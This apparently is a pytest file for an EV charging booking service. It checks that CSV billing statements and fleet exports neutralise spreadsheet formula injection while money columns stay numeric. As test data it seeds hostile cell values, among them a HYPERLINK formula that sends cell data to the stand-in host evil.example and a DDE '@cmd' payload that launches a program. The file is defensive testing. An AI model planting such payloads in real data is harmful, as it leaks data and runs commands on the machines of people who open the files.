"""CSV exports are safe to open: a cell a CPO or a client controls never becomes a formula.

A CPO names its location, EVSE and city; a client names its `external_id`. Each is set to
`=HYPERLINK(...)` (and the other formula starts), the bookings end with prices (one adjusted
downwards later), and the statement CSV and the fleet export must show every such text
with OWASP's leading `'`, while money stays a plain number.
"""

from __future__ import annotations

import csv
import io
import secrets
from datetime import UTC, datetime, timedelta
from decimal import Decimal

from sqlalchemy import update

from chargebook.db.models import Booking
from chargebook.domain.lifecycle import BookingEvent
from chargebook.services.billing import record_charge
from chargebook.services.bookings import transition_booking
from chargebook.services.catalogue import seed_catalogue
from chargebook.services.clock import utcnow
from tests.conftest import LiveServer
from tests.factories import api, evse, make_client, unique_party_id, window, with_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_COLUMNS = ("booking_id", "external_id", "status", "status_reason", "location_id", "location_city",
                "evse_uid", "token_strategy", "fleet_group_id", "customer_id", "currency", "adjustment_of")
MONEY_COLUMNS = ("cpo_cost", "reservation_fee", "commission", "client_price", "billed")


def _hostile_site(url: str) -> tuple[str, list[str]]:
    party = unique_party_id()
    location_id = f"=HYPERLINK({secrets.token_hex(3)})"[:36]
    uids = ["+SUM(1;2)*" + secrets.token_hex(2), "@cmd|' /C calc'!A0"[:30] + secrets.token_hex(2),
            "-2+3*" + secrets.token_hex(2)]
    location = {
        "country_code": "DE", "party_id": party, "id": location_id, "publish": True, "name": FORMULA[:40],
        "address": "Teststraße 1", "city": FORMULA[:45], "postal_code": "10115", "country": "DEU",
        "coordinates": {"latitude": "52.520000", "longitude": "13.405000"}, "time_zone": "Europe/Berlin",
        "evses": [evse(uid) for uid in uids], "last_updated": "2026-01-01T00:00:00Z",
    }
    with_db(url, lambda db: seed_catalogue(db, "DE", party, f"CPO {party}", [location]))
    return location_id, uids


def _end(url: str, booking_id: str, *, price: Decimal | None = None) -> None:
    async def run(db):  # type: ignore[no-untyped-def]
        async with db.write() as session:
            await session.execute(update(Booking).where(Booking.id == booking_id)
                                  .values(status="CONFIRMED", cpo_reservation_id=booking_id))
        async with db.write() as session:
            booking = await session.get(Booking, booking_id, with_for_update=True)
            await transition_booking(session, booking, BookingEvent.CLIENT_CANCELLED, actor="client",
                                     now=utcnow())
        if price is not None:  # a later CPO fee, lower than what was charged: a negative adjustment
            async with db.write() as session:
                booking = await session.get(Booking, booking_id, with_for_update=True)
                booking.client_price = price
                await record_charge(session, booking, utcnow(), "CPO fee")

    with_db(url, run)


def _check(text: str) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        for column, value in row.items():
            if column in MONEY_COLUMNS:
                Decimal(value)  # a number, also when negative
                assert not value.startswith("'"), (column, value)
            elif column in TEXT_COLUMNS:
                assert not value.startswith(STARTS), (column, value)
    return rows


def test_statement_and_fleet_export_neutralise_formulas(live: LiveServer, database_url: str) -> None:
    location_id, uids = _hostile_site(database_url)
    _, key = make_client(database_url, reservation_fee=Decimal("3.00"))
    ids = []
    with api(live.client_base, key) as http:
        for n, (uid, ext) in enumerate(zip(uids, (FORMULA, "+49 30 1234", "@SUM(A1:A9)"), strict=True)):
            start, end = window(120 + 90 * n, 60)
            r = http.post("/bookings", json={"location_id": location_id, "evse_uid": uid,
                                             "reservation_start": start, "reservation_end": end,
                                             "external_id": ext})
            assert r.status_code == 202, r.text
            ids.append(r.json()["id"])
        _end(database_url, ids[0])
        _end(database_url, ids[1], price=Decimal("1.50"))
        _end(database_url, ids[2])
        month = (datetime.now(UTC) + timedelta(minutes=120)).strftime("%Y-%m")
        statement = http.get("/billing/statements", params={"month": month, "format": "csv"})
        assert statement.status_code == 200
        rows = _check(statement.text)
        mine = {r["booking_id"]: r for r in rows if r["booking_id"] in ids}
        assert mine[ids[0]]["external_id"] == "'" + FORMULA
        assert mine[ids[1]]["external_id"] == "'+49 30 1234" and mine[ids[2]]["external_id"] == "'@SUM(A1:A9)"
        assert mine[ids[0]]["location_id"] == "'" + location_id
        assert mine[ids[0]]["location_city"] == "'" + FORMULA[:45]
        assert {mine[i]["evse_uid"] for i in ids} == {"'" + uid for uid in uids}
        assert mine[ids[1]]["client_price"] == "1.50" and mine[ids[1]]["billed"] == "1.50"
        # The JSON statement is data, not a spreadsheet: it keeps the text as sent.
        lines = http.get("/billing/statements", params={"month": month}).json()["lines"]
        assert FORMULA in [line["external_id"] for line in lines]
        day = datetime.now(UTC).date()
        export = http.get(f"{live.base}/api/v1/fleet/reports/export",
                          params={"period_start": day.isoformat(), "period_end": (day + timedelta(days=2)).isoformat()})
        assert export.status_code == 200
        exported = {r["booking_id"]: r for r in _check(export.text) if r["booking_id"] in ids}
        assert set(exported) == set(ids) and exported[ids[0]]["external_id"] == "'" + FORMULA
        assert exported[ids[0]]["client_price"] == "3.00"
